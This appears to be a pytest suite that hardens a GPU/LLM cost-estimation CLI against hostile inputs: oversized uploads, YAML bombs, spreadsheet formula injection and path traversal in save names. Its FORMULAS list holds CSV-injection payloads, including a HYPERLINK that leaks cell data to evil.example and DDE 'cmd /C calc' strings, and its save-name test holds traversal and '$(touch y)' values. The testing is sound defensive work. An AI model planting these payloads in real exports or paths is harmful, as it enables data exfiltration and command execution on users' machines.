"""The hostile-input corpus (tests/hostile/, docs/hardening.md): every case rejected or accepted as listed.

``tests/hostile/expected.csv`` has one line per case: ``file,target,expect_exit,expect_substring,args``.

==========  =====================================================================================
target      what runs (``args`` meaning)
==========  =====================================================================================
scenario    ``python -m tco evaluate FILE ARGS`` (extra CLI arguments)
catalog     ``python -m tco validate --data D`` where D is a tmp copy of data/ with FILE placed at
            ``D/ARGS`` (``gpus.yaml``, ``profiles/x.yaml``...)
vllm,       ``python -m tco import TOOL FILE --model llama-3.1-70b --gpu h100-sxm --gpus 4
llmperf,    --precision bf16 ARGS``
genai-perf
litellm     ``python -m tco import litellm FILE ARGS``
upload      the pure parser a view calls on an uploaded file, after ``check_upload_size``; ARGS
            names it: ``scenario``, ``vllm``/``llmperf``/``genai-perf``, ``litellm``,
            ``catalog-csv:<catalog>``, ``catalog-yaml:<catalog>``, ``traffic-csv``; exit code as the CLI would
            map the error (0 accepted, 1 catalog problems, 2 invalid input)
share       ``tco.scenario.share.decode(text)``
==========  =====================================================================================

Each case must: exit with ``expect_exit``; print ``expect_substring`` (stdout + stderr); when it
fails, name the file; never print a traceback; finish within ``CASE_TIMEOUT_S``; write nothing
outside its tmp sandbox (the CLI runs with the current directory three levels deep in tmp, so an
``--out ../../x`` lands in tmp, and data/ and tests/hostile/ are checked unchanged).
Cases run in-process through ``tco.cli.main`` for speed; ``test_subprocess_cases`` runs a few
through a real ``python -m tco`` to check that nothing reaches stderr as a traceback there either.
"""
from __future__ import annotations

import csv
import functools
import importlib
import io
import shlex
import shutil
import signal
import subprocess
import sys
import tomllib
import traceback
from dataclasses import dataclass
from pathlib import Path

import pytest

import tco.catalog
from tco.cli import main
from tco.cli.common import EXIT_FAIL, EXIT_INVALID, EXIT_OK
from tco.core.exceptions import CatalogError, Problem, ProblemsError, TcoError
from tco.core.limits import MAX_UPLOAD_BYTES, MAX_UPLOAD_MB, UploadTooLarge, check_upload_size
from tco.scenario import share, store

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ROOT / "tests" / "hostile"
DATA = ROOT / "data"
IMPORT_META = ["--model", "llama-3.1-70b", "--gpu", "h100-sxm", "--gpus", "4", "--precision", "bf16"]
CASE_TIMEOUT_S = 30  # [s] per case; a parse that hangs (alias bomb, deep nesting) fails here
TARGETS = {"scenario", "catalog", "vllm", "llmperf", "genai-perf", "litellm", "upload", "share"}


@dataclass(frozen=True)
class Case:
    file: str
    target: str
    expect_exit: int
    expect_substring: str
    args: str

    @property
    def id(self) -> str:
        return f"{self.file}" + (f"[{self.args}]" if self.args else "")


def load_manifest() -> list[Case]:
    with open(HOSTILE / "expected.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    return [Case(r["file"], r["target"], int(r["expect_exit"]), r["expect_substring"], r.get("args") or "")
            for r in rows]


CASES = load_manifest()


# ----------------------------------------------------------------------------------------------
# running one case


class CaseTimeout(Exception):
    pass


def _alarm(signum, frame):
    raise CaseTimeout(f"no result within {CASE_TIMEOUT_S} s")


@functools.lru_cache(maxsize=1)
def _bundled_catalog():
    return tco.catalog.load_catalog(None)


@pytest.fixture()
def cached_catalog(monkeypatch):
    """The bundled catalog loaded once for the whole module (load_catalog takes ~0.4 s); --data still loads."""
    real = tco.catalog.load_catalog

    def load(data_dir=None):
        return _bundled_catalog() if data_dir is None else real(data_dir)

    for mod in ("tco.cli.core", "tco.cli.capacity"):
        monkeypatch.setattr(importlib.import_module(mod), "load_catalog", load)


def _problems_text(problems) -> str:
    return "\n".join(str(p) for p in problems)


def run_upload(kind: str, data: bytes, name: str) -> tuple[int, str]:
    """What a view does with an uploaded file, mapped to the CLI's exit codes."""
    from tco.catalog import edit as catalog_edit
    from tco.cli.capacity import validate_profile
    from tco.importers import import_bytes, litellm
    from tco.scenario import load_scenario_text

    try:
        check_upload_size(name, data)
        if kind == "scenario":
            load_scenario_text(data, name)
        elif kind in ("vllm", "llmperf", "genai-perf"):
            validate_profile(import_bytes(kind, data, name, model="llama-3.1-70b", gpu="h100-sxm", gpus=4,
                                          precision="bf16"), name)
        elif kind == "litellm":
            litellm.parse(data, name)
        elif kind == "traffic-csv":  # views/traffic.py shows f"{upload.name}: {exc}"
            from tco.analysis.traffic import SeriesCsvError, parse_series_csv

            try:
                parse_series_csv(data)
            except SeriesCsvError as exc:
                return EXIT_INVALID, f"{name}: {exc}"
        elif kind.startswith(("catalog-csv:", "catalog-yaml:")):
            how, cat = kind.split(":", 1)
            if how == "catalog-csv":
                entries = catalog_edit.from_csv(cat, data)
            else:
                _, entries = catalog_edit.parse_catalog_text(cat, data, name)
            v = catalog_edit.validate_entries(cat, entries)
            if not v.ok:
                raise CatalogError([Problem(name, p.entry, p.field, p.message) for p in v.problems])
        else:
            raise AssertionError(f"unknown upload parser {kind!r}")
    except CatalogError as exc:
        return EXIT_FAIL, _problems_text(exc.problems)
    except ProblemsError as exc:
        return EXIT_INVALID, _problems_text(exc.problems)
    except TcoError as exc:
        return EXIT_INVALID, f"error: {exc}"
    return EXIT_OK, ""


def run_share(text: str) -> tuple[int, str]:
    try:
        share.decode_scenario(text)
    except ProblemsError as exc:
        return EXIT_INVALID, _problems_text(exc.problems)
    except TcoError as exc:
        return EXIT_INVALID, f"error: {exc}"
    return EXIT_OK, ""


def argv_for(case: Case, src: Path, sandbox: Path) -> list[str]:
    extra = shlex.split(case.args)
    if case.target == "scenario":
        return ["evaluate", str(src), *extra]
    if case.target == "catalog":
        data = sandbox.parent.parent / "data"
        shutil.copytree(DATA, data, ignore=shutil.ignore_patterns(".backups"))
        dest = data / case.args
        dest.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(src, dest)
        return ["validate", "--data", str(data)]
    if case.target == "litellm":
        return ["import", "litellm", str(src), *extra]
    return ["import", case.target, str(src), *IMPORT_META, *extra]


def run_case(case: Case, sandbox: Path, capsys) -> tuple[int, str]:
    """(exit code, stdout + stderr) of one case, bounded by CASE_TIMEOUT_S."""
    src = HOSTILE / case.file
    old = signal.signal(signal.SIGALRM, _alarm)
    signal.setitimer(signal.ITIMER_REAL, CASE_TIMEOUT_S)
    try:
        if case.target == "upload":
            code, text = run_upload(case.args, src.read_bytes(), case.file)
        elif case.target == "share":
            code, text = run_share(src.read_text(encoding="utf-8"))
        else:
            try:
                code = main(argv_for(case, src, sandbox))
            except SystemExit as exc:  # argparse usage errors
                code = int(exc.code or 0)
            text = ""
    except CaseTimeout:
        raise
    except Exception:  # an exception escaping main() is what a user would see as a traceback
        text = traceback.format_exc()
        code = -1
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)
    out = capsys.readouterr()
    return code, out.out + out.err + text


def _snapshot(folder: Path) -> dict[str, tuple[int, int]]:
    return {str(p.relative_to(folder)): (p.stat().st_size, p.stat().st_mtime_ns)
            for p in folder.rglob("*") if p.is_file()}


def _names_for(case: Case) -> set[str]:
    """File names a failure message may use to name the file."""
    names = {case.file}
    if case.target == "catalog":
        names.add(Path(case.args).name)
    if case.target == "upload" and ":" in case.args:
        cat = case.args.split(":", 1)[1]
        names |= {f"{cat}.csv", tco.catalog.CATALOGS[cat][0]}
    return names


# ----------------------------------------------------------------------------------------------
# the corpus


def test_manifest_is_consistent():
    files = {p.name for p in HOSTILE.iterdir()} - {"expected.csv"}
    listed = {c.file for c in CASES}
    assert not files - listed, f"files without a manifest line: {sorted(files - listed)}"
    assert not listed - files, f"manifest lines without a file: {sorted(listed - files)}"
    assert {c.target for c in CASES} <= TARGETS
    assert len(CASES) >= 50
    assert len({c.id for c in CASES}) == len(CASES), "duplicate (file, args) lines"


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_case(case: Case, tmp_path, monkeypatch, capsys, cached_catalog):
    sandbox = tmp_path / "sandbox" / "a" / "b"
    sandbox.mkdir(parents=True)
    monkeypatch.chdir(sandbox)
    before_data, before_corpus = _snapshot(DATA), _snapshot(HOSTILE)

    code, text = run_case(case, sandbox, capsys)

    assert "Traceback" not in text, f"{case.id}: a traceback reached the user:\n{text[-3000:]}"
    assert code == case.expect_exit, f"{case.id}: exit {code}, expected {case.expect_exit}:\n{text[-2000:]}"
    assert case.expect_substring in text, f"{case.id}: {case.expect_substring!r} not in output:\n{text[-2000:]}"
    if code != EXIT_OK and case.target != "share":
        assert any(n in text for n in _names_for(case)), f"{case.id}: message does not name the file:\n{text[-2000:]}"
    # nothing written outside the sandbox: the repository's data and corpus are untouched ...
    assert _snapshot(DATA) == before_data, f"{case.id} changed data/"
    assert _snapshot(HOSTILE) == before_corpus, f"{case.id} changed tests/hostile/"
    # ... every --out target resolved inside tmp, and only written on success
    extra = shlex.split(case.args)
    if "--out" in extra:
        out = (sandbox / extra[extra.index("--out") + 1]).resolve()
        assert out.is_relative_to(tmp_path), out
        assert out.exists() == (code == EXIT_OK), f"{case.id}: --out {out} exists={out.exists()} after exit {code}"
    # ... and a YAML python tag never ran (scenario-python-tag.yaml would touch this file)
    assert not (sandbox / "hostile-pwned").exists() and not (ROOT / "hostile-pwned").exists()


SUBPROCESS_CASES = ["scenario-billion-laughs.yaml", "scenario-binary-garbage.yaml", "vllm-deep-nesting.json",
                    "litellm-decimal-overflow.json", "scenario-python-tag.yaml"]


@pytest.mark.parametrize("name", SUBPROCESS_CASES)
def test_subprocess_cases(name, tmp_path):
    """A real `python -m tco`: the exit code matches and stderr carries a message, never a traceback."""
    case = next(c for c in CASES if c.file == name)
    sandbox = tmp_path / "a" / "b"
    sandbox.mkdir(parents=True)
    argv = argv_for(case, HOSTILE / case.file, sandbox)
    proc = subprocess.run([sys.executable, "-m", "tco", *argv], cwd=sandbox, capture_output=True, text=True,
                          timeout=120, env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"})
    assert "Traceback" not in proc.stderr + proc.stdout, proc.stderr
    assert proc.returncode == case.expect_exit, proc.stderr
    if proc.returncode:
        assert case.file in proc.stderr and case.expect_substring in proc.stderr, proc.stderr


# ----------------------------------------------------------------------------------------------
# sizes: the 50 MB upload is generated here (never committed)

FIFTY_MB = 50 * 1024 * 1024


@pytest.fixture(scope="module")
def fifty_mb(tmp_path_factory) -> Path:
    p = tmp_path_factory.mktemp("big") / "huge-upload.yaml"
    line = b"# " + b"x" * 1021 + b"\n"  # 1 KiB of comment per line: valid YAML, if anyone parsed it
    with open(p, "wb") as fh:
        fh.write(b"name: huge\n")
        for _ in range(FIFTY_MB // len(line) + 1):
            fh.write(line)
    return p


def test_server_upload_limit_matches_code():
    conf = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert conf["server"]["maxUploadSize"] == MAX_UPLOAD_MB
    assert MAX_UPLOAD_BYTES == MAX_UPLOAD_MB * 2**20


def test_check_upload_size_bounds():
    check_upload_size("ok.yaml", b"x" * MAX_UPLOAD_BYTES)  # exactly at the limit is accepted
    with pytest.raises(UploadTooLarge) as exc:
        check_upload_size("big.yaml", b"x" * (MAX_UPLOAD_BYTES + 1))
    assert str(exc.value).startswith("big.yaml: file is 26,214,401 bytes; the upload limit is")
    assert isinstance(exc.value, ProblemsError)


def test_fifty_mb_upload_rejected_fast(fifty_mb):
    import time

    data = fifty_mb.read_bytes()
    assert len(data) > FIFTY_MB
    t0 = time.perf_counter()
    for kind in ("scenario", "vllm", "litellm", "catalog-csv:gpus"):
        code, text = run_upload(kind, data, fifty_mb.name)
        assert code == EXIT_INVALID and "huge-upload.yaml: file is" in text and "upload limit" in text, (kind, text)
    assert time.perf_counter() - t0 < 5  # rejected on size, never parsed


@pytest.mark.parametrize("argv,why", [
    (["evaluate", "{f}"], "limit"),
    # benchmark files are streamed (issue 17: a 500 MB result imports), so this one fails on its content
    (["import", "vllm", "{f}", *IMPORT_META], "not valid JSON"),
    (["import", "litellm", "{f}"], "limit"),
])
def test_fifty_mb_file_rejected_by_cli(argv, why, fifty_mb, capsys, cached_catalog, tmp_path, monkeypatch):
    import time

    monkeypatch.chdir(tmp_path)
    t0 = time.perf_counter()
    code = main([a.replace("{f}", str(fifty_mb)) for a in argv])
    err = capsys.readouterr().err
    assert code == EXIT_INVALID, err
    assert "huge-upload.yaml" in err and why in err and "Traceback" not in err
    assert time.perf_counter() - t0 < 10


# ----------------------------------------------------------------------------------------------
# formulas: text from scenarios and catalogs reaches CSV, FOCUS CSV and XLSX neutralised

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "\tTAB=1+1", "=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def _assert_no_formula_cells(cells, where: str) -> None:
    bad = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_START) and not _is_number(c)]
    assert not bad, f"{where}: cells a spreadsheet would run as formulas: {bad[:5]}"


@pytest.fixture(scope="module")
def formula_result(tmp_path_factory):
    """A result whose option names, scenario name, API provider/service and sources are formulas."""
    from tco.engine import evaluate
    from tco.scenario import parse_scenario

    data = tmp_path_factory.mktemp("formula") / "data"
    shutil.copytree(DATA, data, ignore=shutil.ignore_patterns(".backups"))
    offers = data / "api_offers.yaml"
    offers.write_text(offers.read_text() + f"""
  - id: hostile/formula
    provider: '{FORMULAS[0].replace("'", "''")}'
    model_name: '{FORMULAS[1].replace("'", "''")}'
    input: 1.0
    output: 2.0
    source: '{FORMULAS[2].replace("'", "''")}'
    as_of: '2026-01-01'
""")
    cat = tco.catalog.load_catalog(data)
    doc = {"name": FORMULAS[5], "start": "2027-01", "months": 3,
           "workload": {"requests_per_day": 1000, "input_tokens": 500, "output_tokens": 200},
           "options": [{"name": FORMULAS[0], "api": "hostile/formula"},
                       {"name": FORMULAS[1], "api": "openai/gpt-4o"},
                       {"name": FORMULAS[3], "self_host": {"model": "llama-3.1-70b", "gpu": "h100-sxm",
                                                          "capacity_rps_per_replica": 5,
                                                          "rent": {"usd_per_gpu_hour": 2.0}}},
                       {"name": FORMULAS[4], "self_host": {"model": "llama-3.1-70b", "gpu": "h100-sxm",
                                                          "capacity_rps_per_replica": 5,
                                                          "own": {"server": "hgx-h100-8gpu"}}}]}
    return evaluate(parse_scenario(doc, "formula.yaml"), cat, file="formula.yaml")


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8"))) for c in row]


def test_formulas_neutralised_in_long_csv(formula_result):
    from tco.report import export

    cells = _csv_cells(export.to_long_csv(formula_result))
    _assert_no_formula_cells(cells, "long CSV")
    assert "'" + FORMULAS[0] in cells and "'-2+3" in cells and "'=1+1" in cells


def test_formulas_neutralised_in_assumptions_csv(formula_result):
    from tco.report import export

    cells = _csv_cells(export.assumptions_csv(formula_result))
    _assert_no_formula_cells(cells, "assumptions CSV")
    assert "'" + FORMULAS[2] in cells  # the offer's source


def test_formulas_neutralised_in_focus_csv(formula_result):
    from tco.report.focus import to_focus_csv

    cells = _csv_cells(to_focus_csv(formula_result))
    _assert_no_formula_cells(cells, "FOCUS CSV")
    assert "'" + FORMULAS[0] in cells  # provider name from the catalog


def test_formulas_neutralised_in_xlsx(formula_result):
    from openpyxl import load_workbook

    from tco.report.xlsx import to_xlsx

    # values workbook: no formula at all; text cells are typed, so they hold the text exactly (no ' marker)
    wb = load_workbook(io.BytesIO(to_xlsx(formula_result, values_only=True)))
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"XLSX {ws.title}!{c.coordinate} is a formula: {c.value!r}"
                cells.append(c.value)
    assert FORMULAS[0] in cells
    # live workbook: its formulas are the tool's own and never carry text from a file or a user
    wb = load_workbook(io.BytesIO(to_xlsx(formula_result)))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert not any(f in c.value for f in ("HYPERLINK", "cmd", "SUM(1+1)", "TAB")), (ws.title, c.value)
                elif c.value in FORMULAS:
                    assert c.data_type == "s", (ws.title, c.coordinate)


# ----------------------------------------------------------------------------------------------
# names chosen by file content never choose a path


def test_imported_profile_id_is_a_safe_file_name(capsys, cached_catalog, tmp_path, monkeypatch):
    """The profile id (and so a suggested file name) comes from the file's engine/model: slugged, no '/'."""
    import yaml

    monkeypatch.chdir(tmp_path)
    assert main(["import", "vllm", str(HOSTILE / "vllm-traversal-engine.json"), *IMPORT_META]) == 0
    prof = yaml.safe_load(capsys.readouterr().out)
    assert "/" not in prof["id"] and ".." not in prof["id"] and not prof["id"].startswith(".")


def test_scenario_save_name_cannot_escape(tmp_path):
    """A scenario saved under a hostile name stays in the scenarios folder (tco.scenario.store, issue 7)."""
    from tco.scenario.defaults import default_scenario

    folder = tmp_path / "root" / "scenarios"
    folder.mkdir(parents=True)
    scen = default_scenario(_bundled_catalog())
    for bad in ("../../x", "/etc/passwd", "..", "a/../../b", "nul\x00.yaml", "..\\..\\win", "~/x", "$(touch y)"):
        try:
            path = store.save_scenario(scen, bad, folder).path
        except ProblemsError:
            continue
        assert path.parent == folder.resolve(), (bad, path)
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert written and all(p.parent == folder for p in written), written
